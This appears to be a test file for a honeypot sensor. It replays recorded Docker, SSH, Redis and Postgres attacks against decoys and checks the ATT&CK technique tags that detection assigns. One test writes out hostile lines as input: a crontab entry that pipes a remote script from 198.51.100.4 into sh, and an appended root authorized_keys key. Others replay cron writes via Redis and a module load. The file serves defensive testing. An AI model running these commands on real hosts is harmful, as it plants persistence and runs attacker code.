/** Recorded attacks, played as they were against a sensor, and what its events tell of them. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { decodePayload } from '../../src/honeypot/payload/decode.ts';
import { techniquesOf } from '../../src/honeypot/payload/techniques.ts';
import type { DecoyEvent } from '../../src/model/event.ts';
import { labelledCommands } from './labelled-commands.ts';
import { ask, open, type RawAnswer } from './raw-http.ts';
import {
  type Creation,
  type Expected,
  expectedOfCreations,
  expectedOfExec,
  recordedCreations,
  recordedExec,
  recordedLines,
  recordedQueries,
  recordedRedis,
  withoutRecorded,
} from './recorded-attacks.ts';
import { type Sensor, startSensor, without } from './sensor.ts';

/** Tags that an event has and that a reader gives, over all that is played. */
const tags = { right: 0, told: 0, wanted: 0 };

function count(told: readonly string[], wanted: readonly string[], what: string): string | undefined {
  const missing = wanted.filter((one) => !told.includes(one));
  const more = told.filter((one) => !wanted.includes(one));
  tags.right += wanted.length - missing.length;
  tags.told += told.length;
  tags.wanted += wanted.length;
  if (missing.length + more.length === 0) return undefined;
  return `${what}: without ${missing.join(' ')}; more ${more.join(' ')}`;
}

describe('recorded attacks', () => {
  let sensor: Sensor;
  before(async () => {
    sensor = await startSensor(['docker', 'ssh', 'redis', 'postgres']);
    writeFileSync(join(sensor.folder, 'askpass'), '#!/bin/sh\necho "$WATERGUARD_TEST_PASSWORD"\n');
    chmodSync(join(sensor.folder, 'askpass'), 0o700);
  });
  after(() => sensor?.[Symbol.asyncDispose]());

  const docker = (method: string, target: string, body?: object | string): Promise<RawAnswer> =>
    ask(
      { port: sensor.port('docker') },
      {
        method,
        target,
        ...(body !== undefined && {
          body: typeof body === 'string' ? body : JSON.stringify(body),
          headers: ['Content-Type: application/json'],
        }),
      },
    );

  /** `GET /version`, `GET /_ping`, create, pull where there is no image, create again, attach, start. */
  async function begin({ url, body }: Creation) {
    assert.equal((await docker('GET', '/version')).status, 200);
    assert.equal((await docker('GET', '/_ping')).status, 200);
    let created = await docker('POST', url, body);
    if (created.status === 404) {
      const image = encodeURIComponent(body.Image);
      assert.equal((await docker('POST', `/v1.24/images/create?fromImage=${image}&tag=latest`)).status, 200);
      created = await docker('POST', url, body);
    }
    // The same name again, by another who read the same tutorial.
    if (created.status === 409) created = await docker('POST', url.replace(/\?.*/, ''), body);
    assert.equal(created.status, 201, created.body);
    const id = /"Id":"([0-9a-f]{64})"/.exec(created.body)![1]!;
    const attached = open(
      { port: sensor.port('docker') },
      {
        method: 'POST',
        target: `/v1.24/containers/${id}/attach?stderr=1&stdin=1&stdout=1&stream=1`,
        headers: ['Connection: Upgrade', 'Upgrade: tcp'],
      },
    );
    assert.match(await attached.until(/\r\n\r\n/), /^HTTP\/1\.1 101 UPGRADED\r\n/);
    assert.equal((await docker('POST', `/v1.24/containers/${id}/start`)).status, 204);
    return { id, attached };
  }

  const ran = (id: string): DecoyEvent[] =>
    sensor.events().filter(({ type, data }) => type === 'docker.container.run' && data?.id === id);

  function isComplete(
    { norm }: DecoyEvent,
    { hosts, urls = [], wallets = [] }: Expected,
    what: string,
  ): void {
    assert.deepEqual([...norm.hosts].sort(), [...hosts].sort(), what);
    for (const url of urls) assert.ok(norm.urls.includes(url), `${what}: ${url} in ${norm.urls.join(' ')}`);
    assert.deepEqual(norm.wallets, wallets, what);
  }

  it('create containers, attach, run their scripts, name second stages and leave crontabs', {
    skip: withoutRecorded('docker-create-sanitized-sample.json', 'teamtnt-dockgeddon-create.json'),
  }, async (test) => {
    const creations = recordedCreations();
    assert.equal(creations.length, expectedOfCreations.length);
    const play = async (creation: Creation, index: number): Promise<void> => {
      const expected = expectedOfCreations[index]!;
      const what = `creation ${index + 1}, ${creation.body.Image}`;
      const { id, attached } = await begin(creation);
      const create = await sensor.event('docker.container.create', (one) => one.data?.id === id);
      isComplete(create, expected, what);
      assert.deepEqual(create.norm.images, [creation.body.Image]);
      const different = count(create.attack, expected.techniques, what);
      if (different !== undefined) test.diagnostic(different);
      await sensor.event('docker.container.attach', (one) => one.data?.container === id);
      await sensor.event('docker.container.start', (one) => one.data?.container === id);
      await sensor.event('docker.container.run', (one) => one.data?.id === id);
      // Those that go on for ever are ended by the next visitor.
      assert.equal((await docker('POST', `/v1.24/containers/${id}/stop?t=0`)).status < 400, true);
      assert.equal((await docker('POST', `/v1.24/containers/${id}/wait`)).status, 200);
      assert.equal((await docker('GET', `/v1.24/containers/${id}/logs?stdout=1&stderr=1`)).status, 200);
      attached.end();
      for (const path of expected.left ?? []) {
        const left = await sensor.event('docker.container.run', (one) => leftBy(one).includes(path));
        assert.ok(left.attack.includes('T1053.003'), left.attack.join());
      }
      for (const one of ran(id))
        for (const host of one.norm.hosts) assert.ok(expected.hosts.includes(host), `${what}: ${host}`);
      await docker('DELETE', `/v1.24/containers/${id}?force=1`);
    };
    await Promise.all(creations.map(play));
    test.diagnostic(`${creations.length} creations`);
  });

  it('let somebody type at the host’s shell, who stays by a crontab and a key', {
    skip: withoutRecorded('docker-create-sanitized-sample.json'),
  }, async () => {
    const shell = recordedCreations().find(({ body }) => body.OpenStdin === true && body.Image === 'alpine')!;
    const { id, attached } = await begin(shell);
    const lines = [
      'echo "*/5 * * * * root curl -fsSL http://198.51.100.4/k.sh | sh" >> /etc/crontab',
      'mkdir -p /root/.ssh',
      'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2vKx8nM1bq0 x" >> /root/.ssh/authorized_keys',
    ];
    for (const line of lines) {
      attached.write(`${line}\n`);
      const typed = await sensor.event(
        'docker.container.run',
        (one) => one.data?.id === id && one.data?.input === line,
      );
      assert.equal(typed.data?.exitCode, 0);
    }
    attached.end();
    const told = ran(id);
    const cron = told.find((one) => leftBy(one).includes('/etc/crontab'))!;
    assert.deepEqual([cron.norm.hosts, cron.attack.includes('T1053.003')], [['198.51.100.4'], true]);
    const key = told.find((one) => leftBy(one).includes('/root/.ssh/authorized_keys'))!;
    assert.ok(key.attack.includes('T1098.004'), key.attack.join());
    await docker('DELETE', `/v1.24/containers/${id}?force=1`);
  });

  interface Ran {
    readonly code: number;
    readonly stdout: string;
  }

  function ssh(password: string, user: string, args: readonly string[], input?: string): Promise<Ran> {
    return new Promise((resolve) => {
      const env = {
        PATH: process.env.PATH,
        SSH_ASKPASS: join(sensor.folder, 'askpass'),
        SSH_ASKPASS_REQUIRE: 'force',
        WATERGUARD_TEST_PASSWORD: password,
      };
      const options = [
        ...['StrictHostKeyChecking=no', 'UserKnownHostsFile=/dev/null', 'LogLevel=ERROR'],
        ...['PubkeyAuthentication=no', 'NumberOfPasswordPrompts=1'],
      ].map((option) => `-o${option}`);
      const child = execFile(
        'ssh',
        [...options, `-p${sensor.port('ssh')}`, `${user}@127.0.0.1`, ...args],
        { env, timeout: 60_000 },
        (error, stdout) =>
          resolve({ code: typeof error?.code === 'number' ? error.code : error === null ? 0 : -1, stdout }),
      );
      child.stdin?.end(input);
    });
  }

  it('are lines typed over SSH, of which each is an event with its techniques', {
    skip: without('ssh') || withoutRecorded('cowrie-session-13da7b98b8d4.jsonl', 'ssh-top-commands-2025.txt'),
  }, async (test) => {
    const lines = recordedLines();
    await ssh('admin123', 'root', [], `${lines.map(({ line }) => line).join('\n')}\nexit\n`);
    for (const { line, techniques } of lines) {
      const typed = await sensor.event('ssh.shell.input', (one) => one.data?.line === line);
      const different = count(typed.attack, techniques, line);
      if (different !== undefined) test.diagnostic(different);
      assert.deepEqual([typed.norm.hosts, typed.norm.urls], [[], []], line);
    }
    test.diagnostic(`${lines.length} lines`);
  });

  it('are one long command over SSH, whose crontab is kept', {
    skip: without('ssh') || withoutRecorded('openssh-9.2-transcript.jsonl'),
  }, async (test) => {
    const { user, password, command } = recordedExec();
    const { stdout } = await ssh(password, user, [command]);
    assert.match(stdout, /^Linux \S+ [\s\S]*uid=0\(root\)[\s\S]*benign[\s\S]*\n1\n2\n/);
    const auth = await sensor.event('ssh.auth', ({ data }) => data?.password === password);
    assert.equal(auth.data?.accepted, true);
    const exec = await sensor.event('ssh.exec', ({ norm }) => norm.hosts.includes('example.invalid'));
    isComplete(exec, expectedOfExec, 'the command');
    const different = count(exec.attack, expectedOfExec.techniques, command);
    if (different !== undefined) test.diagnostic(different);
    const result = await sensor.event('ssh.exec.result', (one) =>
      expectedOfExec.left!.every((path) => leftBy(one).includes(path)),
    );
    assert.ok(result.attack.includes('T1053.003'), result.attack.join());
    assert.deepEqual(result.norm.hosts, ['example.invalid']);
  });

  it('are commands of redis-cli, which leave a crontab, a master and a module', {
    skip: without('redis-cli') || withoutRecorded('redis-cli-7.0-transcript.jsonl'),
  }, async () => {
    const commands = recordedRedis();
    for (const command of commands)
      await new Promise((resolve) =>
        execFile('redis-cli', ['-p', String(sensor.port('redis')), ...command], { timeout: 20_000 }, resolve),
      );
    const saved = await sensor.event('redis.save');
    assert.deepEqual(leftBy(saved), ['/var/spool/cron/root']);
    assert.ok(saved.attack.includes('T1053.003') && saved.norm.commands.includes('echo benign-test'));
    const set = await sensor.event('redis.config.set');
    assert.deepEqual(set.data?.parameters, { dir: '/var/spool/cron' });
    assert.ok(set.attack.includes('T1053.003'), set.attack.join());
    const master = await sensor.event('redis.replicaof');
    assert.deepEqual([master.data?.master, master.data?.port], ['127.0.0.1', '1']);
    const load = await sensor.event('redis.module.load');
    assert.equal(load.data?.path, '/tmp/exp.so');
  });

  it('are queries of psql, of which one runs a program', {
    skip: without('psql') || withoutRecorded('psql-15-transcript.jsonl'),
  }, async () => {
    const queries = recordedQueries();
    const args = ['-h', '127.0.0.1', '-p', String(sensor.port('postgres')), '-U', 'postgres', '-X'];
    const env = { PATH: process.env.PATH, PGPASSWORD: 'postgres' };
    const output = await new Promise<string>((resolve, reject) =>
      execFile(
        'psql',
        [...args, ...queries.flatMap((query) => ['-c', query])],
        { env, timeout: 30_000 },
        (error, stdout) => (error === null ? resolve(stdout) : reject(error)),
      ),
    );
    assert.match(output, /PostgreSQL 15\.[\s\S]*uid=\d+\(postgres\)/);
    const program = await sensor.event('postgres.program');
    assert.deepEqual(program.norm.commands, ['id']);
    assert.ok(program.attack.includes('T1033'), program.attack.join());
  });

  it('and lines that reports print have the techniques that a reader finds', (test) => {
    for (const { line, techniques } of labelledCommands) {
      const norm = decodePayload(line);
      const different = count(techniquesOf(norm.commands, norm), techniques, line);
      if (different !== undefined) test.diagnostic(different);
    }
    const [precision, recall] = [tags.right / tags.told, tags.right / tags.wanted];
    test.diagnostic(
      `${tags.wanted} tags wanted, ${tags.told} told: precision ${precision.toFixed(3)}, recall ${recall.toFixed(3)}`,
    );
    assert.ok(precision >= 0.95 && recall >= 0.95);
  });
});

/** Paths of the files that an event keeps. */
function leftBy({ data }: DecoyEvent): string[] {
  return ((data?.artefacts ?? []) as { readonly name: string }[]).map(({ name }) => name);
}
